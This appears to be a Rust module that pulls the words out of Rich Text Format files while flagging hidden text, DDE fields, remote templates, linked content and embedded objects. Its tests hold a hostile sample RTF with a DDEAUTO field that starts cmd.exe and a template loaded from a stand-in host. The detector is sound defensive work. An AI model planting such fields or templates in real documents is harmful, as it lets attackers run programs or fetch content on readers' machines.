//! Rich Text Format (Microsoft, version 1.9.1): its words, without running any field.

use flywheel_messages::Message;

use super::risk::host_of;
use super::text::{Concealment, Writer};
use super::{Contents, Risk};

/// Groups inside groups whose state is kept; deeper ones share the state of the last.
const DEEPEST: usize = 512;

/// Destinations without words of the document: tables of fonts and colours, pictures, data.
const SKIPPED: [&str; 18] = [
    "fonttbl",
    "colortbl",
    "stylesheet",
    "pict",
    "themedata",
    "colorschememapping",
    "datastore",
    "latentstyles",
    "listtable",
    "listoverridetable",
    "rsidtbl",
    "generator",
    "xmlnstbl",
    "panose",
    "falt",
    "blipuid",
    "objdata",
    "fontemb",
];

/// What the characters of a group are.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Kind {
    /// Words of the document.
    #[default]
    Words,
    /// A table of fonts, a picture, data.
    Skipped,
    /// The instruction of a field.
    Field,
    /// The path of a template.
    Template,
}

/// What holds for a group.
#[derive(Clone, Copy, Default)]
struct Group {
    kind: Kind,
    is_hidden: bool,
    half_points: Option<i32>,
    colour: usize,
    /// Bytes that follow `\u` for readers that do not know it.
    fallback: usize,
}

struct Rtf<'b> {
    bytes: &'b [u8],
    at: usize,
    groups: Vec<Group>,
    deeper: usize,
    group: Group,
    out: Writer,
    contents: Contents,
    code: String,
    /// Bytes of a fallback that are still to be passed over.
    passed: usize,
    /// Colours of the table that are white.
    white: Vec<bool>,
    row_start: usize,
    in_row: bool,
}

/// Reads the document `bytes`.
pub(super) fn read(bytes: &[u8]) -> Contents {
    let mut rtf = Rtf {
        bytes,
        at: 0,
        groups: Vec::new(),
        deeper: 0,
        group: Group {
            fallback: 1,
            ..Group::default()
        },
        out: Writer::default(),
        contents: Contents::default(),
        code: String::new(),
        passed: 0,
        white: white_colours(bytes),
        row_start: 0,
        in_row: false,
    };
    rtf.out.part(Message::untranslated("text"));
    while rtf.step().is_some() {}
    let (text, why) = rtf.out.finish();
    if let Some(why) = why {
        rtf.contents.skip(None, why);
    }
    rtf.contents.text = Some(text);
    rtf.contents
}

/// Which colours of the table are white; the first one is that of the program.
fn white_colours(bytes: &[u8]) -> Vec<bool> {
    let Some(start) = memchr::memmem::find(bytes, b"{\\colortbl") else {
        return Vec::new();
    };
    let table = &bytes[start + "{\\colortbl".len()..];
    let table = &table[..memchr::memchr(b'}', table).unwrap_or(table.len())];
    let table = String::from_utf8_lossy(table);
    let is_white = |entry: &str| {
        ["red", "green", "blue"]
            .iter()
            .all(|part| entry.contains(&format!("\\{part}255")))
    };
    table.split(';').map(is_white).collect()
}

impl Rtf<'_> {
    fn step(&mut self) -> Option<()> {
        let byte = *self.bytes.get(self.at)?;
        match byte {
            b'{' => self.begin(),
            b'}' => self.end(),
            b'\\' => return self.control(),
            b'\r' | b'\n' => self.at += 1,
            _ => self.plain(),
        }
        Some(())
    }

    fn begin(&mut self) {
        self.at += 1;
        if self.groups.len() < DEEPEST {
            self.groups.push(self.group);
        } else {
            self.deeper += 1;
        }
    }

    fn end(&mut self) {
        self.at += 1;
        if self.deeper > 0 {
            self.deeper -= 1;
            return;
        }
        let was = self.group;
        self.group = self.groups.pop().unwrap_or(was);
        if was.kind != self.group.kind {
            self.end_code(was.kind);
        }
    }

    fn plain(&mut self) {
        let rest = &self.bytes[self.at..];
        let length = memchr::memchr3(b'\\', b'{', b'}', rest).unwrap_or(rest.len());
        let length = memchr::memchr2(b'\r', b'\n', &rest[..length]).unwrap_or(length);
        let skipped = self.passed.min(length);
        self.passed -= skipped;
        let text: String = match std::str::from_utf8(&rest[skipped..length]) {
            Ok(text) => text.to_owned(),
            Err(_) => rest[skipped..length]
                .iter()
                .map(|byte| of_windows(*byte))
                .collect(),
        };
        self.write(&text);
        self.at += length.max(1);
    }

    fn write(&mut self, text: &str) {
        if matches!(self.group.kind, Kind::Field | Kind::Template) {
            self.code.push_str(text);
        }
        if self.group.kind == Kind::Skipped || text.is_empty() {
            return;
        }
        let start = self.out.at();
        self.out.push(text);
        let is_white = self.white.get(self.group.colour) == Some(&true);
        if self.group.is_hidden {
            self.out.hide(start, Concealment::Marked);
        } else if self.group.half_points.is_some_and(|size| size <= 4) {
            self.out.hide(start, Concealment::Size);
        } else if is_white {
            self.out.hide(start, Concealment::Colour);
        }
    }

    /// A control word or sign.
    fn control(&mut self) -> Option<()> {
        let next = *self.bytes.get(self.at + 1)?;
        if !next.is_ascii_alphabetic() {
            self.sign(next);
            return Some(());
        }
        let word_at = self.at + 1;
        let length = |from: usize, is_part: fn(&u8) -> bool| {
            self.bytes[from..]
                .iter()
                .take_while(|byte| is_part(byte))
                .count()
        };
        let word_end = word_at + length(word_at, u8::is_ascii_alphabetic);
        let minus = usize::from(self.bytes.get(word_end) == Some(&b'-'));
        let digits = length(word_end + minus, u8::is_ascii_digit);
        let end = if digits > 0 {
            word_end + minus + digits
        } else {
            word_end
        };
        let number = std::str::from_utf8(&self.bytes[word_end..end]).ok();
        let number = number.and_then(|number| number.parse::<i32>().ok());
        self.at = end + usize::from(self.bytes.get(end) == Some(&b' '));
        let word = String::from_utf8_lossy(&self.bytes[word_at..word_end]).into_owned();
        self.word(&word, number);
        Some(())
    }

    fn sign(&mut self, sign: u8) {
        self.at += 2;
        match sign {
            b'\'' => {
                let digits = self.bytes.get(self.at..self.at + 2).unwrap_or_default();
                let code = std::str::from_utf8(digits).ok();
                let code = code.and_then(|code| u8::from_str_radix(code, 16).ok());
                self.at += digits.len();
                if self.passed > 0 {
                    self.passed -= 1;
                } else if let Some(code) = code {
                    self.write(&of_windows(code).to_string());
                }
            }
            b'\\' | b'{' | b'}' => self.write(&char::from(sign).to_string()),
            b'~' => self.write(" "),
            b'_' => self.write("-"),
            b'\r' | b'\n' => self.out.end_line(),
            _ => {}
        }
    }

    fn word(&mut self, word: &str, number: Option<i32>) {
        let is_on = number != Some(0);
        match word {
            "par" | "line" | "sect" | "page" if self.group.kind != Kind::Skipped => {
                self.break_line();
            }
            "tab" => self.write("\t"),
            "cell" | "nestcell" => self.out.push("\t"),
            "trowd" => self.begin_row(),
            "row" | "nestrow" => {
                self.out.end_row(self.row_start);
                self.in_row = false;
            }
            "u" => self.unicode(number.unwrap_or(0)),
            "uc" => self.group.fallback = usize::try_from(number.unwrap_or(1)).unwrap_or(1),
            "bin" => self.at += usize::try_from(number.unwrap_or(0)).unwrap_or(0),
            "v" => self.group.is_hidden = is_on,
            "fs" => self.group.half_points = number,
            "cf" => self.group.colour = number.and_then(|at| usize::try_from(at).ok()).unwrap_or(0),
            "plain" => {
                self.group.is_hidden = false;
                self.group.half_points = None;
                self.group.colour = 0;
            }
            "emdash" => self.write("—"),
            "endash" => self.write("–"),
            "lquote" | "rquote" => self.write("'"),
            "ldblquote" | "rdblquote" => self.write("\""),
            "bullet" => self.write("•"),
            "fldinst" => {
                self.group.kind = Kind::Field;
                self.code.clear();
            }
            "template" => {
                self.group.kind = Kind::Template;
                self.code.clear();
            }
            "objemb" | "objlink" | "objautlink" | "objocx" => {
                let name = Message::untranslated("object").to_string();
                self.contents.warn(Risk::Embedded { name });
            }
            _ if SKIPPED.contains(&word) => self.group.kind = Kind::Skipped,
            _ => {}
        }
    }

    fn break_line(&mut self) {
        if self.in_row {
            self.out.space();
        } else {
            self.out.end_line();
        }
    }

    fn begin_row(&mut self) {
        if !self.in_row {
            self.out.end_line();
            self.row_start = self.out.at();
            self.in_row = true;
        }
    }

    fn unicode(&mut self, number: i32) {
        let unit = if number < 0 { number + 65_536 } else { number };
        let character = u32::try_from(unit).ok().and_then(char::from_u32);
        self.write(&character.unwrap_or('\u{fffd}').to_string());
        self.passed = self.group.fallback;
    }

    /// Ends an instruction of this kind.
    fn end_code(&mut self, kind: Kind) {
        if !matches!(kind, Kind::Field | Kind::Template) {
            return;
        }
        let code = std::mem::take(&mut self.code);
        let mut words = code.split_whitespace();
        let host = words.find_map(|word| host_of(word.trim_matches('"')));
        let name = code.trim_start().to_ascii_uppercase();
        if kind == Kind::Field && name.starts_with("DDE") {
            self.contents.warn(Risk::StartsProgram);
        }
        let fetches = name.starts_with("INCLUDE") || name.starts_with("LINK");
        match host {
            Some(host) if kind == Kind::Template => {
                self.contents.warn(Risk::RemoteTemplate { host });
            }
            Some(host) if fetches => self.contents.warn(Risk::RemoteContent { host }),
            _ => {}
        }
    }
}

/// The character that code page 1252 has at `code`.
pub(super) fn of_windows(code: u8) -> char {
    const UPPER: [char; 32] = [
        '€', '\u{81}', '‚', 'ƒ', '„', '…', '†', '‡', 'ˆ', '‰', 'Š', '‹', 'Œ', '\u{8d}', 'Ž',
        '\u{8f}', '\u{90}', '‘', '’', '“', '”', '•', '–', '—', '˜', '™', 'š', '›', 'œ', '\u{9d}',
        'ž', 'Ÿ',
    ];
    match code {
        0x80..=0x9f => UPPER[usize::from(code - 0x80)],
        _ => char::from(code),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(rtf: &str) -> Contents {
        read(rtf.as_bytes())
    }

    #[test]
    fn words_are_read_and_tables_of_fonts_are_not() {
        let read = text(
            r"{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\info{\author Jane}}\pard Caf\'e9 \u8364?5\par\b Next\b0\line end}",
        );
        let text = read.text.expect("a text").text;
        assert_eq!(text, "JaneCafé €5\nNext\nend\n");
    }

    #[test]
    fn rows_of_a_table_are_lines() {
        let read =
            text(r"{\rtf1\trowd\intbl Name\cell Pay\cell\row\trowd\intbl Jo\cell 5\cell\row}");
        assert_eq!(read.text.expect("a text").text, "Name\tPay\nJo\t5\n");
    }

    #[test]
    fn hidden_words_and_fields_are_noticed() {
        let read = text(
            r#"{\rtf1{\colortbl;\red255\green255\blue255;}seen {\v send it} {\cf1 pale}{\field{\*\fldinst DDEAUTO c:\\cmd.exe "/k"}}{\*\template http://x.example/a.dotm}}"#,
        );
        let host = "x.example".to_owned();
        assert_eq!(
            read.risks,
            [Risk::StartsProgram, Risk::RemoteTemplate { host }]
        );
        let read = read.text.expect("a text");
        let hidden = read
            .hidden
            .iter()
            .map(|hidden| &read.text[hidden.span.range()]);
        assert_eq!(hidden.collect::<Vec<_>>(), ["send it", "pale"]);
    }

    #[test]
    fn groups_without_end_are_no_harm() {
        let read = text(&format!("{{\\rtf1{}x", "{".repeat(100_000)));
        assert_eq!(read.text.expect("a text").text, "x\n");
    }
}
